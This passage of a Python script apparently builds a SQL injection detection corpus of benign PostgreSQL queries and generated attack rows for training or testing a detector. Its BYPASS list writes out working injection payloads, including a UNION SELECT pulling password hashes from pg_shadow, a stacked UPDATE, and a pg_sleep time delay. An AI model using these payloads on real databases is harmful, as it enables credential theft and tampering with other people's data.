 ("uuid", "SELECT 'A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11'::uuid = 'a0eebc999c0b4ef8bb6d6bb9bd380a11'::uuid"),
 ("enum", "ALTER TYPE rainbow14 ADD VALUE 'indigo' BEFORE 'violet'"),
 ("enum", "SELECT 'red'::rainbow14 < 'blue'::rainbow14, enum_last(NULL::rainbow14)"),
 ("stats_ext", "CREATE STATISTICS IF NOT EXISTS ext14 (mcv) ON (a + b), c FROM ext_tbl14"),
 ("matview", "CREATE MATERIALIZED VIEW mvtest14 AS SELECT type, sum(amt) AS totamt FROM mvtest_t GROUP BY type WITH DATA"),
 ("copy2", "COPY x14 (a, b, c) FROM STDIN WITH (FORMAT csv, FORCE_NOT_NULL (b), FORCE_NULL (c))"),
 ("copy2", "COPY (SELECT * FROM x14 WHERE a > 5 ORDER BY a) TO STDOUT (FORMAT csv, HEADER true, QUOTE '\"', ESCAPE '\\')"),
 ("vacuum", "VACUUM (SKIP_LOCKED, PROCESS_TOAST false, INDEX_CLEANUP off) vactst14"),
 ("vacuum", "ANALYZE (SKIP_LOCKED) vactst14 (a, b)"),
 ("drop_if_exists", "DROP TABLE IF EXISTS pt14, uniq14, gtest14, collate_test14 CASCADE"),
 ("drop_if_exists", "DROP FUNCTION IF EXISTS functest14_s(int), functest14_b(int)"),
 ("drop_if_exists", "DROP PUBLICATION IF EXISTS testpub14"),
]


def regress_rows(r):
    out, add = regress_list("regress14", REGRESS_FIXED)
    for typ, vals in [("int2", ["'  -32767'", "'0077'"]), ("int4", ["'-2147483647'", "'  42  '"]), ("int8", ["'9223372036854775807'", "'-0042'"]),
                      ("float4", ["'3.40282e38'", "' nan '"]), ("float8", ["'1.7976931348623157e308'", "'-inf'"]), ("numeric", ["'123456789012345678.9'", "'NaN'"]),
                      ("date", ["'2025-07-18'", "'July 18, 2025'", "'20250718'", "'-infinity'", "'1999-01-08 04:05:06'"]), ("time", ["'23:59:59.999999'", "'1:02 PM'"]),
                      ("timetz", ["'12:00:00+05:30'"]), ("timestamp", ["'2025-07-18 09:30:00.25'", "'tomorrow'"]), ("timestamptz", ["'2025-07-18 09:30+02'", "'allballs'::time::text"]),
                      ("interval", ["'1 year 6 months'", "'-2 days +03:00'", "'P3W'"]), ("inet", ["'2001:db8::1/64'"]), ("cidr", ["'10.1/16'"]), ("macaddr", ["'08002b:010203'"]),
                      ("uuid", ["'a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11'"]), ("bytea", ["'\\xc0ffee'", "'\\001\\002'"]), ("json", ["'{\"a\": [1, 2]}'"]),
                      ("jsonb", ["'{\"z\": 1, \"a\": {\"b\": null}}'", "'[true, false]'"]), ("tsvector", ["'rope:1A walk:2B,4C hemp:5D'"]), ("tsquery", ["'!(a & b) <-> c'"]),
                      ("point", ["'(1.5,2.5)'"]), ("lseg", ["'[(0,0),(3,4)]'"]), ("circle", ["'<(1,1),5>'"]), ("int8range", ["'(1,10]'"]), ("numrange", ["'[1.5,)'"]),
                      ("datemultirange", ["'{[2025-01-01,2025-01-10)}'"]), ("bit(4)", ["'0110'"]), ("varbit", ["'1'"]), ("money", ["'12.34'"]), ("regclass", ["'pg_attribute'"]),
                      ("regnamespace", ["'pg_catalog'"]), ("pg_lsn", ["'0/0'"]), ("xml", ["'<b>2</b>'"]), ("jsonpath", ["'$.a ? (@ > 1)'"])]:
        for v in vals:
            fn = typ.split("(")[0]
            add(fn if fn != "varbit" else "bit", "SELECT %s::%s" % (v, typ))
            if r.random() < 0.35 and "(" not in typ:
                add(fn, "SELECT %s::%s IS NULL AS isnull, pg_typeof(%s::%s)" % (v, typ, v, typ))
    for _ in range(30):
        a, b = r.randint(-50000, 50000), r.randint(1, 900)
        t = r.choice(["int2", "int4", "int8", "numeric", "float4", "float8"])
        if t == "int2":
            a = a % 30000
        add(t, "SELECT %d::%s %s %d::%s AS r" % (a, t, r.choice(["+", "-", "*", "/", "%", "<", ">=", "<>", "="]), b, t))
    for _ in range(28):
        s = r.choice(["marbling", "Straße", "x.y.z", "Regress14", "ropewalk", "Ñandú", "ab_cd", "TEST"])
        add("strings", r.choice(["SELECT regexp_count('%s', '[a-z]')" % s, "SELECT regexp_instr('%s', '%s')" % (s, s[-1]), "SELECT left('%s', %d), right('%s', %d)" % (s, r.randint(-3, 5), s, r.randint(-3, 5)),
                                 "SELECT starts_with('%s', '%s')" % (s, s[:2]), "SELECT upper('%s'), initcap('%s')" % (s, s), "SELECT split_part('%s', '.', %d)" % (s, r.choice([-1, 1, 2])),
                                 "SELECT translate('%s', 'aeiou', '12345')" % s, "SELECT '%s' LIKE '%s%%', '%s' ILIKE '%%%s'" % (s, s[:1], s, s[-2:]),
                                 "SELECT encode(convert_to('%s', 'UTF8'), 'base64')" % s, "SELECT octet_length('%s'), bit_length('%s')" % (s, s)]))
    for _ in range(26):
        add("horology", r.choice(["SELECT date '%s' - date '%s'" % (rdate(r), rdate(r, 1990, 2015)),
                                  "SELECT date_trunc('%s', timestamptz '%s 08:15:00+00', 'UTC')" % (r.choice(["week", "month", "year", "hour"]), rdate(r)),
                                  "SELECT extract(%s FROM timestamp '%s 16:45:30')" % (r.choice(["epoch", "dow", "doy", "isoyear", "quarter", "microseconds"]), rdate(r)),
                                  "SELECT to_char(date '%s', '%s')" % (rdate(r), r.choice(["Day, DDth Month YYYY", "IYYY-IW", "Q", "FMMonth", "YYYY-MM-DD\"T\"HH24"])),
                                  "SELECT (date '%s', date '%s') OVERLAPS (date '%s', date '%s')" % (rdate(r, 2020, 2021), rdate(r, 2022, 2023), rdate(r, 2021, 2022), rdate(r, 2024, 2025)),
                                  "SELECT timestamp '%s 12:00' + interval '%d %s'" % (rdate(r), r.randint(1, 60), r.choice(["minutes", "days", "months"]))]))
    for _ in range(15):
        add("select", "SELECT unique1, ten, stringu1 FROM onek WHERE %s ORDER BY %s LIMIT %d" % (
            r.choice(["ten = %d" % r.randint(0, 9), "unique1 BETWEEN SYMMETRIC %d AND %d" % (r.randint(500, 999), r.randint(0, 499)), "stringu1 ~ '^%s'" % rword(r, 2, True),
                      "unique1 = ANY('{%s}'::int[])" % ",".join(str(r.randint(0, 999)) for _ in range(3)), "ten IS DISTINCT FROM %d" % r.randint(0, 9)]),
            r.choice(["unique1 DESC NULLS LAST", "ten, unique1", "stringu1 COLLATE \"C\""]), r.randint(1, 30)))
    for _ in range(14):
        add("arrays", r.choice(["SELECT (ARRAY[%s])[%d:%d]" % (", ".join(str(r.randint(0, 9)) for _ in range(6)), r.randint(1, 3), r.randint(3, 6)),
                                "SELECT ARRAY[%d, %d] && ARRAY[%d, %d, %d]" % tuple(r.randint(0, 9) for _ in range(5)),
                                "SELECT %d = ANY(ARRAY[%s])" % (r.randint(0, 9), ", ".join(str(r.randint(0, 9)) for _ in range(4))),
                                "SELECT array_to_string(ARRAY[%d, NULL, %d], '-', '*'), array_length(ARRAY[%s], 1)" % (r.randint(0, 99), r.randint(0, 99), ", ".join(str(r.randint(0, 9)) for _ in range(r.randint(1, 6))))]))
    for _ in range(12):
        lo, hi = sorted(r.sample(range(0, 500), 2))
        add("rangetypes", r.choice(["SELECT int4range(%d, %d) && int4range(%d, %d)" % (lo, hi, (lo + hi) // 2, hi + r.randint(1, 40)),
                                    "SELECT numrange(%d, %d) + numrange(%d, %d)" % (lo, hi, hi, hi + 10), "SELECT int8range(%d, %d) @> %d::int8" % (lo, hi, r.randint(0, 500)),
                                    "SELECT range_agg(int4range(x, x + %d)) FROM generate_series(%d, %d, 3) x" % (r.randint(1, 4), lo, hi)]))
    for _ in range(12):
        add("window", "SELECT ten, %s OVER (ORDER BY ten %s) FROM tenk1 WHERE unique2 < %d" % (
            r.choice(["ntile(3)", "cume_dist()", "lead(ten, 2)", "max(ten)", "row_number()"]),
            r.choice(["ROWS BETWEEN 1 PRECEDING AND 1 FOLLOWING", "GROUPS BETWEEN CURRENT ROW AND 1 FOLLOWING", "RANGE UNBOUNDED PRECEDING EXCLUDE CURRENT ROW"]), r.randint(5, 50)))
    for _ in range(10):
        add("jsonb", r.choice(["SELECT '{\"a\": %d, \"b\": [%d]}'::jsonb @> '{\"b\": [%d]}'" % (r.randint(0, 9), r.randint(0, 9), r.randint(0, 9)),
                               "SELECT jsonb_path_query('{\"x\": [%d, %d, %d]}', '$.x[*] ? (@ > %d)')" % (r.randint(0, 9), r.randint(0, 9), r.randint(0, 9), r.randint(0, 9)),
                               "SELECT '[%d, %d]'::jsonb -> %d" % (r.randint(0, 99), r.randint(0, 99), r.randint(0, 2))]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "plpgsql_do_exec", "dollar_quote", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "regex": "input_formatted", "like": "input_formatted",
               "setting": "input_formatted", "arr": "input_plain", "jpkey": "input_plain", "jpstr": "input_plain", "tsq": "input_plain",
               "json": "input_json_text", "arrint": "input_numeric", "jpnum": "input_numeric"}
TRUNC_STYLES = [("dashdash_hash", "--#"), ("dashdash_semicolon", "--;"), ("dashdash_star", "--*"), ("dashdash_empty_block", "--/**/"),
                ("dashdash_space_word", None), ("dashdash_space_dashdash", "-- --"), ("dashdash_equals", "--="), ("semicolon_dashdash_tab", ";--\t"),
                ("block_unclosed_word", None), ("dashdash_pipe", "--|"), ("dashdash_caret", "--^"), ("dashdash_apostrophe_space", "--' "),
                ("dashdash_bang_dash", "--!-"), ("semicolon_block_unclosed", "; /*")]
# the application escapes quotes the wrong way for its literal
BYPASS = [("addslashes_into_standard_string", "t14_wpdb_options", "a", "woodburner_policy' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t14_jdbctemplate_diagnosis", "a", "\\'; UPDATE tack_repair_queue SET claimed_by = NULL; -- ", double_quotes),
          ("addslashes_into_standard_string", "t14_pgmoon_pigments", "b", "ox gall' UNION SELECT usename, passwd FROM pg_shadow -- ", addslashes),
          ("doubling_into_e_string", "t14_diesel_splice_note", "a", "\\' || (SELECT string_agg(usename, chr(44)) FROM pg_user) -- ", double_quotes),
          ("addslashes_into_standard_string", "t14_ecto_runs", "a", "nursery') OR true -- ", addslashes),
          ("addslashes_into_standard_string", "t14_laravel_finds", "a", "T. aestivum' AND 1=(SELECT 1 FROM pg_sleep(4)) -- ", addslashes)]


def truncation_style(r):
    """(name, comment) cutting off the rest of the statement."""
    style, c = r.choice(TRUNC_STYLES)
    if c is None:
        c = "-- " + rword(r, 4) if style == "dashdash_space_word" else "/* " + rword(r, 5)
    return style, c


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "root", "guest"], "spaces": ["", " ", "  "]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 9999)), str(r.randint(1, 90)), "%d.%02d" % (r.randint(0, 900), r.randint(0, 99)),
                     "%.3f" % r.uniform(0, 5), str(r.randint(10 ** 6, 10 ** 9)), "0", "-%d" % r.randint(1, 500), "%de%d" % (r.randint(1, 9), r.randint(1, 4))])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or si["slice"] or si["lead"] == "SET" or tpl[0] == "t14_pdo_trylock"
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["%s-%05d" % (rword(r, 3, upper=True), r.randint(0, 99999)), "%012X" % r.getrandbits(48),
                     "+47 %03d %02d %03d" % (r.randint(0, 999), r.randint(0, 99), r.randint(0, 999)), "%032x" % r.getrandbits(128),
                     "%d.%d.%d" % (r.randint(0, 12), r.randint(0, 40), r.randint(0, 99)), "%02d.%02d.%d" % (r.randint(1, 28), r.randint(1, 12), r.randint(2018, 2029)),
                     "TM-%d-%04d" % (r.randint(2019, 2026), r.randint(0, 9999)), "%d mm × %d m" % (r.randint(6, 48), r.randint(10, 220))])


def input_value(r, fam, groups):
    """(template, slot, value) of one benign input of family fam, or None."""
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.4:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " ,"], 99999, 7, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.4, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f14-%06d", "fourteenth")


if __name__ == "__main__":
    main()
